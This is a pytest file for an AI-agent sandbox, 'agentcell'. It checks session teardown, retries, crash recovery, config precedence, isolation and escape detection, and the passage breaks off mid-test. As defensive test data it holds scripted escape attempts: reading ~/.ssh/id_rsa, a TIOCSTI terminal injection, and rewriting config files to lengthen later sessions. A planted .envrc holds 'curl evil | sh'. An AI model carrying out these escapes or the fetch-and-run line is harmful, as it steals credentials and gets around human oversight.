"""The session workflow (issue 8, foundation): the seed's three scenarios, each retry rule by fault
injection, recovery after the supervisor is killed, configuration precedence and refusals.

Sessions run through the real CLI as root with real per-session accounts, real cells and real snapshots
(the fixtures and helpers: tests/sessionkit.py).
"""
from __future__ import annotations

import json
import os
import pwd
import secrets
import shlex
import shutil
import stat
import subprocess
import time
from pathlib import Path
from typing import Any

import pytest

from agentcell.cell.cgroups import groups_of as cell_cgroups
from conftest import AGENTCELL, User, needs_root
from fakenet import DNS4, GOOD4, FakeInternet, leftovers
from sessionkit import Env, account_gone, acl_names, records, running, scripted, session, session_environ
from terminal import TIOCSTI_ATTACK, OnTerminal, read_until

pytestmark = needs_root

CLEAN = """\
edit {p}/src/app.py 'x = 1' 'x = 2'
write {p}/src/new.py 'print(1)'
run python3 {p}/src/new.py
sleep 600
"""


def test_a_clean_session_edits_only_declared_paths_and_ends_at_its_wall_clock(env: Env, user: User) -> None:
    s = scripted(env, CLEAN.format(p=env.project), "--rw", "src", "--wall-clock", "3")
    assert s.rc == 0, (s.out, s.err)
    assert (s.summary["status"], s.summary["reason"], s.summary["escape_target"]) == ("completed", "timeout", None)
    assert s.out.splitlines()[:4] == [f"step 1: ALLOWED: edited {env.project}/src/app.py",
                                      f"step 2: ALLOWED: wrote {env.project}/src/new.py", "1",
                                      f"step 3: ALLOWED: ran python3 {env.project}/src/new.py"], s.out
    sid = s.summary["session"]
    diff = session(env, ["diff", sid, "--json"])
    assert diff.summary == {"added": [f"{env.project}/src/new.py"], "modified": [f"{env.project}/src/app.py"],
                            "deleted": []}
    assert (env.project / "docs" / "notes.md").read_text() == "notes\n"
    # Torn down: the per-session account is gone, its ACL grants too, and what it made is the human's.
    assert account_gone(s.summary["os_user"]) and s.summary["os_user"].startswith("ac-s")
    assert s.summary["os_user"] not in acl_names(env.project) and str(s.summary["problems"]) == "[]"
    assert (env.project / "src" / "new.py").stat().st_uid == user.uid
    assert cell_cgroups(s.summary['cell_id']) == []
    events = [r["event"] for r in records(env, sid)]
    assert events == ["session.plan", "session.policy", "session.preflight", "session.account", "session.firewall",
                      "session.spawn", "session.timeout", "session.terminate", "session.cleanup", "session.end"]
    verify = subprocess.run([AGENTCELL, "audit", "verify", str(env.audit)], capture_output=True, text=True)
    assert verify.returncode == 0, verify.stdout + verify.stderr
    # And the human can have it all back.
    assert session(env, ["restore", sid]).rc == 0
    assert (env.project / "src" / "app.py").read_text() == "x = 1\n" and not (env.project / "src" / "new.py").exists()


ESCAPE = """\
edit {p}/src/app.py 'x = 1' 'x = 2'
read ~/.ssh/id_rsa
write {p}/src/after.txt 'still running'
"""


def test_an_escape_outside_the_declared_paths_terminates_the_session_and_is_audited(env: Env) -> None:
    s = scripted(env, ESCAPE.format(p=env.project), "--rw", "src", "--wall-clock", "60")
    assert s.rc == 120, (s.out, s.err)
    assert s.summary["status"] == "terminated" and s.summary["escape_target"].endswith("/.ssh/id_rsa"), s.summary
    assert s.summary["escape"]["operation"] == "read" and s.summary["escape"]["source"] == "canary"
    assert not (env.project / "src" / "after.txt").exists()  # frozen and killed at the attempt
    assert (env.project / "src" / "app.py").read_text() == "x = 2\n"
    sid = s.summary["session"]
    recs = {r["event"]: r for r in records(env, sid)}
    assert recs["session.escape"]["details"]["target"] == s.summary["escape_target"]
    assert recs["session.end"]["details"]["status"] == "terminated"
    assert recs["session.end"]["details"]["escape"]["target"] == s.summary["escape_target"]
    assert account_gone(s.summary["os_user"])


def test_an_unwritable_backup_dir_aborts_before_spawn_and_the_harness_never_starts(env: Env) -> None:
    backups = env.state / "ro-backups"
    backups.mkdir()
    subprocess.run(["chattr", "+i", str(backups)], check=True)  # not even root can create the store in it
    steps = f"write {env.project}/src/started.txt yes\n"
    s = scripted(env, steps, "--rw", "src", "--backup-dir", str(backups / "store"))
    assert s.rc == 123, (s.out, s.err)
    assert s.summary["status"] == "aborted" and "preflight failed" in s.summary["reason"], s.summary
    assert not (env.project / "src" / "started.txt").exists() and s.out == ""
    events = [r["event"] for r in records(env, s.summary["session"])]
    assert events == ["session.plan", "session.policy", "session.abort", "session.cleanup", "session.end"]
    assert s.summary["os_user"] is None and s.summary["cell_id"] and s.summary["backup_id"] is None


# ---- the retry rules, by fault injection (AGENTCELL_TEST_FAULTS: POINT=how many times it fails) ------------

WORK = "write {p}/src/started.txt yes\n"


@pytest.mark.parametrize(("faults", "status", "rc", "started"), [
    ("preflight=2", "completed", 0, True),  # two retries (1 s, 3 s): the third attempt backs up
    ("account=1", "completed", 0, True),  # one retry
    ("account=2", "terminated", 120, False),  # then terminate (nothing was spawned)
    ("firewall=1", "completed", 0, True),
    ("firewall=2", "aborted", 123, False),  # then abort before spawn
    ("spawn=1", "completed", 0, True),
    ("spawn=2", "aborted", 123, False),  # then abort, keeping the backup
    ("telemetry=3", "completed", 0, True),  # three reconnects with backoff
    ("telemetry=4", "terminated", 120, True),  # then lost telemetry is a violation
    ("audit@spawn=1", "terminated", 120, None),  # an unwritable log (after the trail's 3 retries) terminates
])
def test_each_retry_rule(env: Env, faults: str, status: str, rc: int, started: bool | None) -> None:
    steps = WORK.format(p=env.project) + ("sleep 2\n" if faults.startswith("telemetry") else "")
    s = scripted(env, steps, "--rw", "src", "--wall-clock", "60", extra={"AGENTCELL_TEST_FAULTS": faults})
    assert (s.rc, s.summary.get("status")) == (rc, status), (s.summary, s.err)
    if started is not None:
        assert (env.project / "src" / "started.txt").exists() == started, s.summary
    assert account_gone(s.summary["os_user"]) and s.summary["problems"] == [], s.summary
    sid = s.summary["session"]
    events = [r["event"] for r in records(env, sid)]
    point = faults.split("=")[0]
    if point == "spawn" and status == "aborted":
        assert s.summary["backup_id"] and "backup" in s.summary["reason"], s.summary
        store = session(env, ["diff", sid, "--json"])  # the backup is there to compare with
        assert store.rc == 0 and store.summary["added"] == [], store.summary
    if point == "telemetry" and status == "terminated":
        assert s.summary["escape"]["operation"] == "telemetry", s.summary
    if point == "audit@spawn":
        assert "audit log cannot be written" in s.summary["reason"] and "session.spawn" not in events
        assert events[-3:] == ["session.terminate", "session.cleanup", "session.end"]
    if status != "completed" or point != "preflight":
        assert events.count("session.preflight") <= 1


# ---- recovery, configuration, refusals ---------------------------------------------------------------


def test_recover_finishes_the_teardown_after_the_supervisor_is_killed(env: Env) -> None:
    sup = running(env, stdout=subprocess.DEVNULL)
    try:
        assert (env.project / "src" / "running.txt").exists(), "the session did not start"
        listed = session(env, ["list", "--json"]).summary
        [row] = listed  # type: ignore[misc]
        assert row["status"] == "running" and not row["needs_recover"]
    finally:
        sup.kill()  # our own child: kill -9 of the supervisor, mid-session
        sup.wait()
    name = row["os_user"]
    assert session(env, ["list", "--json"]).summary[0]["needs_recover"] is True  # type: ignore[index]
    r = session(env, ["recover", "--json"])
    [done] = r.summary  # type: ignore[misc]
    assert (done["session"], done["status"]) == (row["session"], "terminated"), (done, r.err)
    assert account_gone(name) and name not in acl_names(env.project)
    assert cell_cgroups(row['cell_id']) == []
    assert [e["event"] for e in records(env, row["session"])][-3:] == ["session.terminate", "session.cleanup",
                                                                       "session.end"]
    assert session(env, ["recover", "--json"]).summary == []  # nothing left to do


def test_recover_finishes_the_others_when_one_session_cannot_be_and_names_it(env: Env,
                                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    """One session recover refuses (its checkpoint names a cell agentcell does not make) does not leave the
    others unfinished: they are recovered, it is named with its reason, and the exit status says so."""
    from agentcell.session import graph

    for _ in range(2):
        s = scripted(env, "sleep 600\n", "--wall-clock", "30", extra={"AGENTCELL_TEST_FAULTS": "kill@monitor=1"})
        assert s.rc == -9, (s.rc, s.err)
    rows = session(env, ["list", "--json"]).summary
    assert [r["needs_recover"] for r in rows] == [True, True], rows  # type: ignore[index]
    bad, good = (str(r["session"]) for r in rows)  # type: ignore[index]
    monkeypatch.setenv("AGENTCELL_STATE_DIR", str(env.state))
    g, conn = graph.open_graph()
    real = graph.load(g, bad)
    assert real is not None
    try:
        g.update_state({"configurable": {"thread_id": bad}}, {"cell_id": "../ac-victim"}, as_node="monitor")
        # (a supervisor record agentcell did not write is no live supervisor: neither list nor recover stops at it)
        g.update_state({"configurable": {"thread_id": good}}, {"supervisor": {"pid": "x", "start": 1}},
                       as_node="monitor")
        assert session(env, ["list", "--json"]).rc == 0
        r = session(env, ["recover", "--json"])
        assert r.rc != 0 and [d["session"] for d in r.summary] == [good], (r.rc, r.err)  # type: ignore[index]
        assert f"session {bad} was not recovered: session: session {bad}: recorded cell '../ac-victim'" in r.err
        assert r.err.rstrip().endswith(f"1 session(s) not recovered: {bad} (see each one's reason above; fix "
                                       "it, then run 'agentcell session recover' again)"), r.err
        left = {str(x["session"]): x for x in session(env, ["list", "--json"]).summary}  # type: ignore[union-attr]
        assert left[bad]["needs_recover"] and not left[good]["needs_recover"]
        assert left[good]["status"] == "terminated" and account_gone(left[good]["os_user"])
    finally:
        g.update_state({"configurable": {"thread_id": bad}}, {"cell_id": real["cell_id"]}, as_node="monitor")
        conn.close()
    r = session(env, ["recover", "--json"])
    assert r.rc == 0 and [d["session"] for d in r.summary] == [bad], (r.rc, r.err)  # type: ignore[index]


def test_config_precedence_is_flags_then_env_then_dotenv_then_toml(tmp_path: Path) -> None:
    from agentcell.session.config import load

    (tmp_path / "agentcell.toml").write_text('[session]\nharness = "aider"\nwall_clock_limit_s = 10\n'
                                             'declared_paths = ["src"]\nfirewall_enabled = false\n')
    (tmp_path / ".env").write_text("WALL_CLOCK_LIMIT_S=20\nAGENT_HARNESS='codex'\nOPENAI_API_KEY=from-dotenv\n")
    cfg = load({}, environ={"AGENT_HARNESS": "gemini", "FIREWALL_ENABLED": "on"}, cwd=str(tmp_path))
    assert (cfg.harness, cfg.wall_clock_limit_s, cfg.firewall_enabled) == ("gemini", 20, True)
    assert cfg.declared_paths == (str(tmp_path / "src"),) and cfg.secrets == {}  # gemini reads no OpenAI key
    cfg = load({"harness": "codex", "wall_clock_limit_s": "5"}, environ={}, cwd=str(tmp_path))
    assert (cfg.harness, cfg.wall_clock_limit_s, cfg.secrets) == ("codex", 5, {"OPENAI_API_KEY": "from-dotenv"})
    assert cfg.sources["wall_clock_limit_s"] == "--wall-clock"
    assert "from-dotenv" not in json.dumps(cfg.as_dict())  # secrets are never part of the recorded config


@pytest.mark.parametrize(("extra", "args", "message"), [
    ({"WALL_CLOCK_LIMIT_S": "soon"}, [], "WALL_CLOCK_LIMIT_S: 'soon' is not a number of seconds (use a whole"),
    ({"FIREWALL_ENABLED": "maybe"}, [], "FIREWALL_ENABLED: 'maybe' is not a boolean (use true or false)"),
    ({}, ["--harness", "nope"], "--harness: unknown harness 'nope' (one of claude_code,"),
    ({}, ["--wall-clock", "0"], "--wall-clock: 0 is not above 0"),
    ({}, ["--harness", "codex"], "harness codex: codex (Codex CLI) is not installed (not on PATH)"),
    ({}, ["--agent", "Not A Name"], "--agent: 'Not A Name' is not a valid agent name"),
    ({}, ["--agent", "ac-nobody"], "identity: no account named 'ac-nobody'"),
    ({}, ["--rw", "/tmp/agentcell-no-such-dir"], "declared_paths: /tmp/agentcell-no-such-dir does not exist"),
    ({"DECLARED_PATHS": "/etc"}, [], "declared_paths: /etc is refused: it is a system directory"),
])
def test_bad_configuration_is_one_line_and_nothing_is_created(env: Env, extra: dict[str, str], args: list[str],
                                                             message: str) -> None:
    s = session(env, ["start", *args, "--", "true"], extra=extra)
    assert s.rc == 125 and s.err.startswith(f"agentcell session: {message}"), s.err
    assert len(s.err.strip().splitlines()) == 1
    assert not (env.state / "sessions").exists() and not env.audit.exists()


def test_agentcell_run_does_not_import_langgraph() -> None:
    import sys

    p = subprocess.run([sys.executable, "-X", "importtime", "-c",
                        "import sys; from agentcell.cli.main import main; sys.exit(main(['run', '--explain', "
                        "'--as', '65534', '--', 'true']))"], capture_output=True, text=True)
    assert p.returncode == 0, p.stderr[-2000:]
    assert "langgraph" not in p.stderr and "agentcell.session" not in p.stderr


def named_acl_entries(path: Path) -> list[str]:
    """ACL entries naming a user or group, anywhere below ``path`` (the test projects start with none)."""
    out = subprocess.run(["getfacl", "-Rpn", str(path)], capture_output=True, text=True).stdout
    return [line for line in out.splitlines()
            if line.split(":")[0] in ("user", "group", "default") and line.split(":")[1 if not line.startswith(
                "default:") else 2]]


@pytest.mark.parametrize("node", ["plan", "policy", "preflight", "account", "firewall", "spawn", "monitor",
                                  "terminate", "cleanup", "audit"])
def test_kill_9_of_the_supervisor_at_any_node_then_recover_leaves_nothing_behind(env: Env, node: str) -> None:
    before = (env.project / "src" / "app.py").read_bytes(), (env.project / "docs" / "notes.md").read_bytes()
    s = scripted(env, f"write {env.project}/src/marker.txt yes\nsleep 600\n", "--rw", "src", "--wall-clock", "2",
                 extra={"AGENTCELL_TEST_FAULTS": f"kill@{node}=1"})
    assert s.rc == -9 and s.summary == {}, (s.rc, s.err)
    r = session(env, ["recover", "--json"])
    [done] = r.summary  # type: ignore[misc]
    assert done["status"] in ("terminated", "completed") and done["problems"] == [], (done, r.err)
    assert account_gone(done["os_user"]) and not list((env.state / "ephemeral").glob("*"))
    assert named_acl_entries(env.project) == []
    assert cell_cgroups(f"agentcell-{done['session']}") == []
    assert not Path(f"/run/agentcell/cgroups/agentcell-{done['session']}").exists()
    assert ((env.project / "src" / "app.py").read_bytes(), (env.project / "docs" / "notes.md").read_bytes()) == before
    events = [r["event"] for r in records(env, done["session"])]
    assert events[-1] == "session.end" and "session.spawn" not in events[events.index("session.end"):], events
    assert session(env, ["recover", "--json"]).summary == []


def test_session_stop_terminates_a_running_session(env: Env) -> None:
    sup = running(env)
    try:
        [row] = session(env, ["list", "--json"]).summary  # type: ignore[misc]
        # The cell was forked by its host process, not by the graph's (LangGraph keeps worker threads there).
        uid = pwd.getpwnam(row["os_user"]).pw_uid
        agent_pid = next(int(p) for p in os.listdir("/proc") if p.isdigit() and _uid_of(p) == uid)
        chain = _ancestors(agent_pid)  # the cell's PID 1, C1 (forked: the host's cmdline), the host, us
        host = [p for p in chain if b"agentcell.host.server" in _cmdline(p)][-1]
        assert chain[chain.index(host) + 1] == sup.pid
        stop = session(env, ["stop", row["session"]])
        assert stop.rc == 0, stop.err
        out, _ = sup.communicate(timeout=60)
    finally:
        if sup.poll() is None:
            sup.kill()
            sup.wait()
    summary = json.loads(out.strip().splitlines()[-1])
    assert sup.returncode == 120 and summary["status"] == "terminated" and summary["reason"] == "stopped: signal 15"
    assert account_gone(summary["os_user"]) and named_acl_entries(env.project) == []
    again = session(env, ["stop", row["session"]])
    assert again.rc == 125 and "has ended (terminated)" in again.err


def _uid_of(pid: str) -> int:
    try:
        with open(f"/proc/{pid}/status") as f:
            return int(next(line for line in f if line.startswith("Uid:")).split()[1])
    except (OSError, StopIteration):
        return -1


def _cmdline(pid: int) -> bytes:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read()
    except OSError:
        return b""


def _ancestors(pid: int) -> list[int]:
    out = []
    while pid > 1:
        with open(f"/proc/{pid}/status") as f:
            pid = int(next(line for line in f if line.startswith("PPid:")).split()[1])
        out.append(pid)
    return out


def test_a_persistent_agent_keeps_its_own_shares_and_loses_the_sessions(env: Env, user: User, agent: str) -> None:
    shared = named_acl_entries(env.project / "docs")
    assert shared, "the persistent share made no ACL entry"
    steps = f"write {env.project}/src/by-agent.py 'x = 3'\nwrite {env.project}/docs/by-agent.md hi\n"
    s = scripted(env, steps, "--agent", agent, "--rw", "src", "--rw", "docs")
    assert (s.rc, s.summary["status"], s.summary["os_user"]) == (0, "completed", agent), (s.out, s.err)
    assert named_acl_entries(env.project / "src") == []  # the session's grant is gone
    assert all(e in named_acl_entries(env.project / "docs") for e in shared)  # the agent's own share stays
    assert (env.project / "src" / "by-agent.py").stat().st_uid == user.uid  # given to the agent's human
    assert (env.project / "docs" / "by-agent.md").exists()


def test_recover_after_a_kill_while_granting_spares_a_persistent_agents_own_shares(env: Env, agent: str) -> None:
    shared = named_acl_entries(env.project / "docs")
    s = scripted(env, "say hi\n", "--agent", agent, "--rw", "src", "--rw", "docs",
                 extra={"AGENTCELL_TEST_FAULTS": "kill@account=1"})
    assert s.rc == -9 and named_acl_entries(env.project / "src"), "the kill came before the grant"
    [done] = session(env, ["recover", "--json"]).summary  # type: ignore[misc]
    assert done["status"] == "terminated" and done["problems"] == [], done
    assert named_acl_entries(env.project / "src") == [] and named_acl_entries(env.project / "docs") == shared


def test_the_agent_cannot_read_dotenv_nor_change_the_config_of_the_next_session(env: Env) -> None:
    (env.project / ".env").write_text("WALL_CLOCK_LIMIT_S=30\n")
    (env.project / "agentcell.toml").write_text('[session]\nharness = "scripted"\n')
    steps = (f"read {env.project}/.env\nappend {env.project}/agentcell.toml 'declared_paths = [\"/srv\"]'\n"
             f"write {env.project}/src/agentcell.toml '[session]'\n")
    script = env.state / "steps.txt"
    script.write_text(steps)
    s = session(env, ["start", "--json", "--", str(script)])  # the harness comes from agentcell.toml
    assert s.rc == 0 and s.summary["harness"] == "scripted", (s.out, s.err)
    lines = s.out.splitlines()
    assert lines[0].startswith(f"step 1: DENIED: read {env.project}/.env") and "DENIED" in lines[1], s.out
    assert (env.project / "agentcell.toml").read_text() == '[session]\nharness = "scripted"\n'
    sources = session(env, ["show", s.summary["session"], "--json"]).summary["config"]["sources"]
    assert sources["wall_clock_limit_s"] == f"WALL_CLOCK_LIMIT_S (in {env.project}/.env)"
    assert sources["harness"] == f"{env.project}/agentcell.toml: session.harness"


def test_a_config_or_env_file_the_agent_creates_is_moved_aside_for_the_human_to_accept(env: Env) -> None:
    # the whole project is declared: its agentcell.toml and .env are the next session's, and .env the
    # human's tools' (CODEX_HOME=./.codex runs the project's config the next time they start Codex)
    steps = (f"write {env.project}/agentcell.toml '[session]'\nwrite {env.project}/.env 'CODEX_HOME=./.codex'\n"
             f"write {env.project}/src/.env.example 'API_URL='\n")
    s = scripted(env, steps)
    assert s.rc == 0 and len(s.summary["warnings"]) == 2, s.summary
    for name in ("agentcell.toml", ".env"):
        assert not (env.project / name).exists()
        warning = next(w for w in s.summary["warnings"] if w.startswith(f"the agent created {env.project}/{name},"))
        moved = Path(warning.split(" it was moved to ")[1].split(":")[0])
        assert moved.parent.name.startswith(".agentcell-quarantine-") and moved.is_file(), warning
    assert (env.project / "src" / ".env.example").read_text() == "API_URL=\n"  # (documents; nothing loads it)
    assert "move it back if you accept it" in s.err


def test_a_spawn_that_fails_once_the_agent_was_let_go_still_moves_aside_what_it_planted(env: Env) -> None:
    """The spawn fails after the agent was let go (go@spawn: it ran to its end meanwhile): not retried, the
    session aborted, and cleanup still compares the control surface against the scan spawn made (it was
    only checkpointed when spawn succeeded, so what the agent planted stayed)."""
    s = scripted(env, f"write {env.project}/agentcell.toml '[session]'\n",
                 extra={"AGENTCELL_TEST_FAULTS": "go@spawn=1"})
    assert (s.rc, s.summary.get("status")) == (123, "aborted"), (s.summary, s.err)
    assert "after the agent was let go: not retried" in s.summary["reason"], s.summary
    assert not (env.project / "agentcell.toml").exists(), s.summary
    warning = next(w for w in s.summary["warnings"] if w.startswith(f"the agent created {env.project}/agentcell.toml,"))
    assert Path(warning.split(" it was moved to ")[1].split(":")[0]).is_file(), warning
    assert account_gone(s.summary["os_user"]), s.summary


def test_a_supervisor_killed_once_the_agent_went_before_spawns_checkpoint_still_gets_what_it_planted_moved(
        env: Env) -> None:
    """The scan cleanup compares against is kept before the agent may go: a supervisor killed after the agent
    ran, before spawn's checkpoint (ran@spawn), leaves recover the scan, and what the agent planted is moved
    aside; the kept scan is removed once the session has ended, as it is for every session."""
    kept = env.state / "sessions"
    assert scripted(env, "say hi\n").rc == 0 and not list(kept.glob("protect-*")), list(kept.iterdir())
    s = scripted(env, f"write {env.project}/agentcell.toml '[session]'\n",
                 extra={"AGENTCELL_TEST_FAULTS": "ran@spawn=1"})
    assert s.rc == -9 and (env.project / "agentcell.toml").exists(), (s.rc, s.err)  # planted; no teardown yet
    assert len(list(kept.glob("protect-*.json"))) == 1
    # Meanwhile the human works on: what is theirs stays where it is (the run's end is not known to recover).
    (env.project / ".claude").mkdir()
    os.chown(env.project / ".claude", env.project.stat().st_uid, env.project.stat().st_gid)
    r = session(env, ["recover", "--json"])
    [done] = r.summary  # type: ignore[misc]
    assert done["status"] == "terminated" and not (env.project / "agentcell.toml").exists(), (done, r.err)
    warning = next(w for w in done["warnings"] if w.startswith(f"the agent created {env.project}/agentcell.toml,"))
    assert Path(warning.split(" it was moved to ")[1].split(":")[0]).is_file(), warning
    assert (env.project / ".claude").is_dir(), done["warnings"]
    assert account_gone(done["os_user"]) and not list(kept.glob("protect-*")), list(kept.iterdir())
    # A kept scan that is not as agentcell wrote it: said, and the teardown goes on.
    s = scripted(env, "say hi\n", extra={"AGENTCELL_TEST_FAULTS": "ran@spawn=1"})
    assert s.rc == -9, s.err
    [damaged] = kept.glob("protect-*.json")
    damaged.write_text('{"before": {}, "truncated": false, "since_ns": "0"}')  # (a time that is text)
    r = session(env, ["recover", "--json"])
    [done] = r.summary  # type: ignore[misc]
    assert any(w.startswith("the protected paths could not be checked (the scan taken before the agent went is "
                            "damaged") for w in done["warnings"]), (done["warnings"], r.err)
    assert account_gone(done["os_user"]) and not list(kept.glob("protect-*")), list(kept.iterdir())


def test_no_file_in_the_project_lengthens_a_session(env: Env) -> None:
    for name, text, where in ((".env", "WALL_CLOCK_LIMIT_S=99999\n", f"WALL_CLOCK_LIMIT_S (in {env.project}/.env)"),
                              ("agentcell.toml", "[session]\nwall_clock_limit_s = 99999\n",
                               f"{env.project}/agentcell.toml: session.wall_clock_limit_s")):
        (env.project / name).write_text(text)
        s = scripted(env, "say hi\n")
        assert s.rc == 125 and s.err.startswith(f"agentcell session: {where}: a file in the project may shorten"), s.err
        assert "--wall-clock 99999" in s.err and "Traceback" not in s.err
        s = scripted(env, "say hi\n", "--wall-clock", "99999")  # (said on the command line: yours)
        assert s.rc == 0, s.err
        (env.project / name).unlink()


def test_api_keys_reach_the_cell_of_the_harness_that_needs_them_and_never_the_checkpoints(
        env: Env, monkeypatch: pytest.MonkeyPatch) -> None:
    """In-process (the codex binary is not installed here, and the CLI refuses a missing harness): the
    codex profile's key, from .env, is in the cell; its value is in no checkpoint and no audit record."""
    from langgraph.checkpoint.sqlite import SqliteSaver

    from agentcell.session import config, graph, state

    monkeypatch.setenv("AGENTCELL_STATE_DIR", str(env.state))
    (env.state / "keys.env").write_text("OPENAI_API_KEY=sk-test-0123456789\nANTHROPIC_API_KEY=sk-not-for-codex\n")
    cfg = config.load({"harness": "codex", "network": "none", "declared_paths": ["src"],
                       "audit_log_path": str(env.audit), "backup_dir": str(env.state / "backups")},
                      environ={"LANG": "C.UTF-8"}, cwd=str(env.project), dotenv=str(env.state / "keys.env"))
    out = env.state / "out.txt"
    fd = os.open(out, os.O_WRONLY | os.O_CREAT | os.O_CLOEXEC, 0o644)
    try:
        rt = state.Runtime(stdio=(0, fd, 2), secrets=dict(cfg.secrets), environ={"LANG": "C.UTF-8"})
        conn = state.connect()
        g = graph.build_graph(rt, checkpointer=SqliteSaver(conn, serde=state.Serde()))
        final = graph.run(g, {"session_id": graph.new_session_id(), "config": cfg.as_dict(),
                              "argv": ["sh", "-c", 'echo "openai=$OPENAI_API_KEY anthropic=$ANTHROPIC_API_KEY"']})
        conn.close()
    finally:
        os.close(fd)
    assert final["status"] == "completed" and final["reason"] == "exit 0", final.get("reason")
    assert out.read_text() == "openai=sk-test-0123456789 anthropic=\n"
    for f in [*(env.state / "sessions").iterdir(), env.audit]:
        assert b"sk-test-0123456789" not in f.read_bytes(), f


def test_ten_concurrent_sessions_cannot_see_each_others_files_processes_or_network(env: Env, user: User) -> None:
    projects = [Path("/tmp") / ("agentcell-test-c" + secrets.token_hex(4)) for _ in range(10)]
    sups: list[subprocess.Popen[str]] = []
    try:
        for i, p in enumerate(projects):
            (p / "src").mkdir(parents=True)
            (p / "src" / "secret.txt").write_text(f"project {i}\n")
            for q in (p, p / "src", p / "src" / "secret.txt"):
                shutil.chown(q, user.uid, user.gid)
        for i, p in enumerate(projects):
            others = "".join(f"read {q}/src/secret.txt\n" for q in projects if q != p)
            script = env.state / f"steps-{i}.txt"
            # Each cell waits (after its look around) until all ten are up: namespace numbers are
            # reused once freed, so they are compared while every cell still holds its own.
            script.write_text(f"write {p}/src/mine.txt {i}\n{others}run ps -eo uid=,comm=\n"
                              "run readlink /proc/self/ns/net\nrun ip -o link\n"
                              f"write {p}/src/ready 1\nrun sh -c 'until [ -e {p}/src/go ]; do sleep 0.1; done'\n")
            sups.append(subprocess.Popen([AGENTCELL, "session", "start", "--harness", "scripted", "--project", str(p),
                                          "--json", "--", str(script)], env=session_environ(env), cwd=p, text=True,
                                         stdout=subprocess.PIPE, stderr=subprocess.PIPE))
        deadline = time.monotonic() + 240
        while not all((p / "src" / "ready").exists() for p in projects):
            assert time.monotonic() < deadline and all(s.poll() is None for s in sups), "a cell ended early"
            time.sleep(0.1)
        for p in projects:
            (p / "src" / "go").touch()
        outs = [s.communicate(timeout=300) for s in sups]
        netns: set[str] = set()
        for i, (out, err) in enumerate(outs):
            summary = json.loads(out.strip().splitlines()[-1])
            assert summary["status"] == "completed" and summary["exit_status"] == 0, (i, summary, err)
            lines = out.strip().splitlines()[:-1]
            denied = [line for line in lines if "DENIED: read" in line]
            assert len(denied) == 9 and all("No such file or directory" in line for line in denied), lines
            uids = {line.split()[0] for line in lines if line.split()[0].isdigit()}
            assert len(uids) == 1, lines  # only its own account's processes: a PID namespace per cell
            # A network namespace of its own, with nothing in it but its own loopback.
            [ns] = [line.strip() for line in lines if line.strip().startswith("net:[")]
            netns.add(ns)
            links = [line for line in lines if ": lo:" in line or "link/" in line]
            assert len(links) == 1 and ": lo:" in links[0], lines
            assert (projects[i] / "src" / "mine.txt").read_text() == f"{i}\n"
            assert account_gone(summary["os_user"])
        assert len(netns) == 10 and os.readlink("/proc/self/ns/net") not in netns, netns
    finally:
        for s in sups:
            if s.poll() is None:
                s.kill()
                s.wait()
        for p in projects:
            shutil.rmtree(p, ignore_errors=True)


def test_the_seed_firewall_refuses_and_reports_egress_outside_443_and_goes_away(env: Env) -> None:
    s = scripted(env, "connect 127.0.0.1 9\nsleep 600\n", "--rw", "src", "--wall-clock", "60",
                 extra={"FIREWALL_ENABLED": "true"})
    assert s.rc == 120 and s.out.startswith("step 1: DENIED: connect 127.0.0.1 9"), (s.out, s.err)
    assert (s.summary["escape_target"], s.summary["escape"]["source"]) == ("127.0.0.1:9", "nftables"), s.summary
    firewall = next(r for r in records(env, s.summary["session"]) if r["event"] == "session.firewall")
    assert firewall["details"]["network"] == "host-firewall" and firewall["details"]["table"]
    tables = subprocess.run(["nft", "list", "tables"], capture_output=True, text=True).stdout
    assert firewall["details"]["table"] not in tables


def test_the_harness_gets_a_terminal_of_its_own_and_cannot_type_into_ours(env: Env) -> None:
    script = (f"{AGENTCELL} session start --rw src -- python3 -c '{TIOCSTI_ATTACK}'; "
              "IFS= read -r -t 2 line; echo \"SHELL-READ:[$line]\"")
    with OnTerminal(["/bin/bash", "--norc", "-c", script], env=session_environ(env), cwd=str(env.project)) as term:
        out = read_until(term.fd, b"SHELL-READ:", 60)
        out += read_until(term.fd, b"]", 10)
    text = out.decode(errors="replace")
    assert "TTY /dev/pts/0" in text and "SHELL-READ:[]" in text, text  # the cell's own pty, relayed
    assert "terminated (escape: write ioctl TIOCSTI" in text, text  # and the attempt ends the session


def test_build_graph_reads_like_the_diagram_and_declares_the_retry_rules() -> None:
    from langgraph.types import RetryPolicy

    from agentcell import build_graph

    g = build_graph()
    edges = {(e.source, e.target) for e in g.get_graph().edges}
    main_line = ["__start__", "plan", "policy", "preflight", "account", "firewall", "spawn", "monitor", "terminate",
                 "cleanup", "audit", "__end__"]
    assert set(zip(main_line, main_line[1:], strict=False)) | {("monitor", "monitor")} <= edges, edges
    retries = {name: g.builder.nodes[name].retry_policy for name in ("preflight", "account", "firewall", "spawn",
                                                                      "monitor")}
    got = {n: (p.max_attempts, p.initial_interval, p.backoff_factor) for n, p in retries.items()
           if isinstance(p, RetryPolicy)}
    assert got == {"preflight": (3, 1.0, 3.0), "account": (2, 0.5, 2.0), "firewall": (2, 0.5, 2.0),
                   "spawn": (2, 0.5, 2.0), "monitor": (4, 0.5, 2.0)}


def test_what_the_agent_plants_for_the_humans_tools_is_moved_aside(env: Env, user: User) -> None:
    s = scripted(env, f"write {env.project}/.envrc 'curl evil | sh'\nwrite {env.project}/src/ok.py 'x = 1'\n")
    assert s.rc == 0 and s.summary["status"] == "completed", (s.out, s.err)
    assert not (env.project / ".envrc").exists() and (env.project / "src" / "ok.py").exists()
    assert len(s.summary["warnings"]) == 1, s.summary["warnings"]  # (one: it is an env file too, moved once)
    [warning] = s.summary["warnings"]
    assert warning.startswith(f"the agent created {env.project}/.envrc, which decides what git, your shell or your "
                              "agent runs; it was moved to "), warning
    moved = Path(warning.rsplit(" ", 1)[1])
    assert moved.read_text() == "curl evil | sh\n" and moved.stat().st_uid == user.uid


def test_a_proxy_session_refuses_a_name_off_its_allow_list_and_ends(env: Env) -> None:
    fetch = ("import urllib.request\ntry:\n    urllib.request.urlopen('https://blocked.invalid/', timeout=5)\n"
             "except OSError as e:\n    print('refused', e)")
    s = session(env, ["start", "--rw", "src", "--net", "proxy", "--json", "--", "python3", "-c", fetch])
    assert s.rc == 120 and s.summary["status"] == "terminated", (s.summary, s.err)
    assert (s.summary["escape_target"], s.summary["escape"]["source"]) == ("blocked.invalid:443", "proxy")


def test_a_session_reaches_the_domains_its_flags_allow_and_is_ended_at_any_other(
        env: Env, tmp_path_factory: pytest.TempPathFactory) -> None:
    fake = FakeInternet(tmp_path_factory.mktemp("inet"))  # test hosts in a namespace of the test's own
    try:
